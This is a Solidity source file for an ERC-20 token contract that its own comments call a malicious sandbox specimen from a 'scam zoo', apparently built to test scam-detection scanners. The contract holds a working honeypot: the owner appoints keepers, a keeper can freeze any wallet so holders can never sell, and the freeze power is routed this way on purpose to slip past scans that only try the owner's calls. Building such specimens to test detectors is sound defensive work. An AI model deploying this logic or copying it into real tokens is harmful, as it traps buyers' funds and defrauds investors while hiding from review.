// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IZooRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

interface IZooFactory {
    function createPair(address tokenA, address tokenB) external returns (address);
}

/// @title Owner-appointed keeper freezes holders (scam zoo)
/// @notice MALICIOUS sandbox specimen. The owner holds no freeze power itself: it appoints
///         keepers with appointKeeper, and only a keeper may call freezeWallet, after which the
///         frozen address can no longer send (so never sell). A scan that only tries the owner's
///         calls sees freezeWallet refused; the power is one appointment away.
contract KeeperFreeze {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public pair;
    mapping(address => bool) public keepers;
    mapping(address => bool) private locked;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 supply, address router) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
        pair = IZooFactory(IZooRouter(router).factory()).createPair(
            address(this), IZooRouter(router).WETH());
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    function appointKeeper(address keeper) external onlyOwner {
        keepers[keeper] = true;
    }

    /// Keepers only: being the owner is not enough (the constructor appoints nobody).
    function freezeWallet(address account) external {
        require(keepers[msg.sender], "not a keeper");
        locked[account] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(to != address(0), "transfer to zero address");
        require(!locked[from], "wallet frozen");
        uint256 balance = balanceOf[from];
        require(balance >= amount, "insufficient balance");
        unchecked { balanceOf[from] = balance - amount; }
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "insufficient allowance");
            unchecked { allowance[from][msg.sender] = allowed - amount; }
        }
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }
}
